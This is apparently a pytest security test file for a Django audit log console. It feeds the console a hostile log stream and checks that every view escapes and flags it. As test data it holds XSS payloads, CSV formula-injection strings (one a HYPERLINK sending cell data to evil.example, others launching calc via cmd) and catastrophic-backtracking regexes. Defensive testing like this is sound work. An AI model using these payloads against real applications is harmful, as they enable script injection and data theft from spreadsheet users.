"""Every page stays correct on a log file written by someone hostile, or just broken.

One stream mixes good lines with every kind of bad one (each carries a marker, so a line
dropped silently is noticed): truncated JSON, binary junk, invalid UTF-8, a 3 MB line,
JSON that is not an object, wrong types in known fields, HTML and script payloads,
spreadsheet formulas, CRLF endings, a last line without a newline, and a truncated
``.gz`` rotation. Browse (with several filters), every record's detail page, the live
tail (page and poll) and every CSV export must answer 200, flag what is malformed,
escape every payload and neutralise every formula.
"""

from __future__ import annotations

import csv
import functools
import gzip
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlencode

import pytest
from django.test import Client
from django.urls import reverse

from tests.security.conftest import World
from tests.security.console_urls import body_of, console_urls
from tests.sources.helpers import config, stamp

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
#: Raw payload fragments that must never reach an HTML page unescaped.
UNESCAPED = (b"<script>alert", b"<img src=x", b"onerror=alert(1)>")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
URL_NAMES = {url.name for url in console_urls()}
CSV_EXPORTS = [url for url in console_urls() if url.is_csv]


def t(n: int) -> str:
    return stamp(n)


@functools.cache
def hostile_lines(tag: str) -> list[tuple[str, bytes, bool]]:
    """(marker, line, malformed?) for every kind of line; markers are unique per file."""

    def m(kind: str) -> str:
        return f"{kind}-{tag}"

    def obj(n: int, **fields: Any) -> bytes:
        return json.dumps({"time": t(n), "level": "INFO", "name": "apps.x", **fields}).encode()

    lines: list[tuple[str, bytes, bool]] = [
        (m("GOOD"), obj(1, message=m("GOOD")), False),
        (
            m("CUT"),
            f'{{"time": "{t(2)}", "level": "ERROR", "message": "{m("CUT")} half'.encode(),
            True,
        ),
        (m("JUNK"), b"\x00\x01\x02\xff\xfe\x1b[31m" + m("JUNK").encode() + b"\x00\xc3", True),
        (
            m("UTF8"),
            obj(3, message="caf").replace(
                b'caf"', b"caf\xe9 \xc3\x28 " + m("UTF8").encode() + b'"'
            ),
            True,
        ),
        # Cut to MAX_LINE_BYTES: flagged truncated (and malformed: the JSON is cut too).
        (m("HUGE"), obj(4, message=m("HUGE") + "A" * (3 * 1024 * 1024)), True),
        (m("ARRAY"), json.dumps([1, 2, m("ARRAY")]).encode(), True),
        (m("STRING"), json.dumps(m("STRING")).encode(), True),
        ("", b"42", True),
        ("", b"null", True),
        (
            m("TYPES1"),
            json.dumps(
                {
                    "time": 1e300,
                    "level": 5,
                    "name": ["x"],
                    "message": {"a": SCRIPT, "m": m("TYPES1")},
                }
            ).encode(),
            False,
        ),
        (
            m("TYPES2"),
            json.dumps(
                {"time": True, "level": None, "name": None, "message": None, "marker": m("TYPES2")}
            ).encode(),
            False,
        ),
        (
            m("TYPES3"),
            json.dumps(
                {
                    "time": {"nested": 1},
                    "level": ["ERROR"],
                    "name": 12,
                    "message": [IMG, m("TYPES3")],
                }
            ).encode(),
            False,
        ),
        (
            m("TYPES4"),
            json.dumps(
                {
                    "time": "not a time",
                    "level": "NOTALEVEL",
                    "message": 3.5,
                    "marker": m("TYPES4"),
                    "time2": -1,
                }
            ).encode(),
            False,
        ),
        # Beyond 64 bits (orjson cannot hold them) and NaN (only the stdlib reads it).
        (
            m("BIGINT"),
            f'{{"time": "{t(23)}", "message": "{m("BIGINT")}", "id": 123456789012345678901234567890, "ids": [18446744073709551616], "ratio": NaN}}'.encode(),
            False,
        ),
        (
            m("XSS"),
            obj(
                5,
                level="ERROR",
                name=SCRIPT,
                message=f"{IMG} {m('XSS')}",
                module=SCRIPT,
                **{SCRIPT: IMG},
            ),
            False,
        ),
        *[
            (
                m(f"FORMULA{i}"),
                obj(6 + i, message=formula, module=formula, marker=m(f"FORMULA{i}")),
                False,
            )
            for i, formula in enumerate(FORMULAS)
        ],
        (m("CRLF"), obj(20, message=m("CRLF")) + b"\r", False),
        (
            m("TEXT"),
            f"{t(21).replace(',', ',')} [ERROR] apps.text: {SCRIPT} {m('TEXT')}".encode(),
            False,
        ),
        (m("LAST"), obj(22, message=m("LAST")), False),
    ]
    return lines


def write_stream(logs: Path) -> None:
    # A rotated file ends without a newline: its last line is complete all the same.
    rotated = hostile_lines("rot")
    (logs / "app.log.1").write_bytes(b"\n".join(line for _, line, _ in rotated))
    # The live file: the same lines, then a half-written one (no newline yet).
    live = hostile_lines("live")
    (logs / "app.log").write_bytes(
        b"\n".join(line for _, line, _ in live)
        + b"\n"
        + b'{"time": "'
        + t(30).encode()
        + b'", "message": "PARTIAL-live"}'
    )
    # A compressed rotation cut off half-way, as a full disk or a killed logrotate leaves it.
    data = b"\n".join(
        json.dumps({"time": t(i), "level": "INFO", "message": f"GZ-{i:04d} " + "x" * 200}).encode()
        for i in range(2000)
    )
    compressed = gzip.compress(data)
    (logs / "app.log.2.gz").write_bytes(compressed[: len(compressed) // 2])


@pytest.fixture
def hostile(world: World, settings: Any) -> World:
    for path in world.logs.glob("app.log*"):
        path.unlink()
    write_stream(world.logs)
    settings.AUDITCONSOLE_TAIL_INITIAL_LINES = 200
    # Extra columns whose values are lists, objects, huge integers or absent.
    sources = dict(settings.AUDITCONSOLE_LOG_SOURCES)
    sources["app"] = config(
        world.logs / "app.log",
        LABEL="Application",
        OPTIONS={"columns": ["module", "ids", "id", "message.a"]},
    )
    settings.AUDITCONSOLE_LOG_SOURCES = sources
    return world


@pytest.fixture
def one_page(settings: Any) -> None:
    """Every record of the stream on one browse page."""
    settings.AUDITCONSOLE_PAGE_SIZE = 5000


@pytest.fixture
def client(world: World) -> Client:
    client = Client()
    client.force_login(world.users["exporter"])
    return client


def assert_escaped(body: bytes, where: str) -> None:
    for fragment in UNESCAPED:
        assert fragment not in body, f"{where}: unescaped {fragment!r}"


def records_of(response: Any) -> list[Any]:
    return [row.record for row in response.context["rows"]]


def record_links(body: bytes) -> list[str]:
    return list(
        dict.fromkeys(re.findall(r'href="(/audit/logs/app/record/[^"/]+/)"', body.decode()))
    )


def test_browse_shows_every_line_flagged_and_escaped(
    hostile: World, client: Client, one_page: None
) -> None:
    response = client.get(reverse("auditconsole:source", args=["app"]))
    assert response.status_code == 200
    body = body_of(response)
    assert_escaped(body, "browse")
    records = records_of(response)
    markers = [m for tag in ("rot", "live") for m, _, _ in hostile_lines(tag) if m]
    by_marker: dict[str, Any] = {}
    for record in records:
        if record.file == "app.log.2.gz":
            continue
        text = f"{record.raw} {record.message} {json.dumps(record.data, default=str)}"
        for marker in markers:
            if marker in text:
                by_marker.setdefault(marker, record)
    for tag in ("rot", "live"):
        for marker, _, malformed in hostile_lines(tag):
            if not marker:
                continue
            assert marker in by_marker, f"line {marker} was dropped"
            record = by_marker[marker]
            assert record.malformed == malformed, (marker, record.error)
    assert by_marker["HUGE-rot"].truncated
    assert len(by_marker["HUGE-rot"].raw) < 100 * 1024
    assert "\r" not in by_marker["CRLF-rot"].message
    assert by_marker["TEXT-rot"].logger == "apps.text"
    # The rotated file's last line had no newline and is shown; the live file's is not
    # yet (it may still be being written).
    assert "LAST-rot" in by_marker
    assert not any("PARTIAL-live" in r.raw for r in records)
    # The truncated .gz: what could be read, then a record saying where it broke.
    gz = [r for r in records if r.file == "app.log.2.gz"]
    assert any(r.malformed and "truncated" in (r.error or "") for r in gz)
    assert 0 < sum(1 for r in gz if r.message.startswith("GZ-")) < 2000
    # Malformed rows are flagged on the page, not only in the data.
    assert body.count(b"badge--malformed") >= sum(1 for r in records if r.malformed)


FILTERS = (
    {"level": "ERROR"},
    {"q": "alert"},
    {"q": "alert\\(1\\)", "regex": "1"},
    {"q": "HYPERLINK"},
    {"field": "level=5"},
    {"field": "marker=TYPES2-rot"},
    {"logger": "<script>"},
    {"since": "2026-04-04 12:00", "until": "2026-04-04 13:00"},
    {"q": "\u00e9"},
)


@pytest.mark.parametrize("query", FILTERS, ids=[urlencode(f) for f in FILTERS])
def test_browse_filters_survive_hostile_lines(
    hostile: World, client: Client, query: dict[str, str]
) -> None:
    path = reverse("auditconsole:source", args=["app"]) + "?" + urlencode(query)
    for headers in ({}, {"HTTP_HX_REQUEST": "true"}):
        response = client.get(path, **headers)
        assert response.status_code == 200
        assert b"form-errors" not in body_of(response), query
        assert_escaped(body_of(response), f"browse {query}")


def test_every_record_page_renders(hostile: World, client: Client, one_page: None) -> None:
    browse = client.get(reverse("auditconsole:source", args=["app"]))
    records = records_of(browse)
    plain = [r for r in records if not r.file.endswith(".gz")]
    compressed = [r for r in records if r.file.endswith(".gz")]
    # Every hostile line, and the ends of the compressed rotation (with its break).
    chosen = plain + compressed[:3] + compressed[-3:]
    links = [reverse("auditconsole:record", args=["app", r.token]) for r in chosen]
    assert set(links) <= set(record_links(browse.content))
    assert len(plain) == 2 * len(hostile_lines("rot"))  # nothing dropped, nothing doubled
    for link in links:
        response = client.get(link)
        assert response.status_code == 200, unquote(link)
        assert_escaped(response.content, link)
    # The widest context, around the huge lines and the broken .gz (slow: a few only).
    for record in [*[r for r in plain if r.truncated], compressed[-1]]:
        more = client.get(
            reverse("auditconsole:record", args=["app", record.token]) + "?context=100"
        )
        assert more.status_code == 200
        assert_escaped(more.content, "context=100")


def test_merged_view_of_hostile_and_plain_sources(hostile: World, client: Client) -> None:
    response = client.get(reverse("auditconsole:merged") + "?sources=app&sources=django&q=alert")
    assert response.status_code == 200
    assert_escaped(response.content, "merged")


@pytest.mark.skipif("tail" not in URL_NAMES, reason="the live tail is not mounted")
def test_tail_page_and_polls(hostile: World, client: Client) -> None:
    path = reverse("auditconsole:tail", args=["app"])
    page = client.get(path)
    assert page.status_code == 200
    assert_escaped(page.content, "tail")
    assert b"XSS-live" in page.content and b"badge--malformed" in page.content
    token = page.context["token"]
    poll_headers = {"HTTP_HX_REQUEST": "true", "HTTP_HX_TARGET": "tail-lines"}
    idle = client.get(path + "?" + urlencode({"cursor": token}), **poll_headers)
    assert idle.status_code == 204
    # The half-written line is finished, and more hostile lines arrive.
    with (hostile.logs / "app.log").open("ab") as handle:
        handle.write(b"\n")
        for _, line, _ in hostile_lines("new"):
            handle.write(line + b"\n")
    poll = client.get(path + "?" + urlencode({"cursor": token}), **poll_headers)
    assert poll.status_code == 200
    assert_escaped(poll.content, "tail poll")
    assert b"PARTIAL-live" in poll.content
    for marker in (b"GOOD-new", b"XSS-new", b"JUNK-new", b"HUGE-new", b"TYPES3-new"):
        assert marker in poll.content
    filtered = client.get(path + "?" + urlencode({"q": "alert", "cursor": token}), **poll_headers)
    assert filtered.status_code == 200
    assert_escaped(filtered.content, "tail poll, filtered")


def csv_cells(response: Any) -> Iterator[str]:
    text = body_of(response).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        yield from row


@pytest.mark.skipif(not CSV_EXPORTS, reason="no CSV export is mounted")
def test_exports_neutralise_formulas(hostile: World, client: Client) -> None:
    from tests.security.console_urls import Samples

    samples = Samples({"key": lambda: "app"})
    exported = 0
    for url in CSV_EXPORTS:
        if "key" not in url.params and not url.is_merged:
            continue
        response = client.get(samples.path_for(url))
        assert response.status_code == 200, url.name
        cells = list(csv_cells(response))
        joined = "\n".join(cells)
        assert "XSS-live" in joined, url.name
        dangerous = [c for c in cells if c.startswith(FORMULA_STARTS)]
        assert not dangerous, f"{url.name}: formula cells {dangerous[:5]}"
        # Each formula is still there, shown as text.
        for formula in FORMULAS:
            assert "'" + formula in cells, (url.name, formula)
        exported += 1
    assert exported


# -- hostile regular expressions on hostile lines ---------------------------------------------

#: Each would take days on the line below under a backtracking engine; RE2 runs them in
#: linear time, so they are run, not refused.
EXPONENTIAL = ("(a+)+$", "(.|\\s)*!x", "(a|aa)+$", "((a*)*)*b")
LOG_VIEWS = [
    u for u in console_urls() if ("key" in u.params or u.is_merged) and "ref" not in u.params
]


@pytest.mark.parametrize("pattern", EXPONENTIAL)
def test_exponential_regexes_run_in_linear_time(world: World, client: Client, pattern: str) -> None:
    from tests.security.console_urls import Samples
    from tests.security.guards import hang_guard

    with (world.logs / "app.log").open("ab") as handle:
        handle.write(json.dumps({"time": t(40), "message": "a" * 60 + "!"}).encode() + b"\n")
    samples = Samples({"key": lambda: "app"})
    for url in LOG_VIEWS:
        path = samples.path_for(url)
        path += ("&" if "?" in path else "?") + urlencode({"q": pattern, "regex": "1"})
        with hang_guard(30):
            response = client.get(path)
        assert response.status_code in (200, 204), (url.name, response.status_code)
        assert b"exponential time" not in body_of(response), url.name
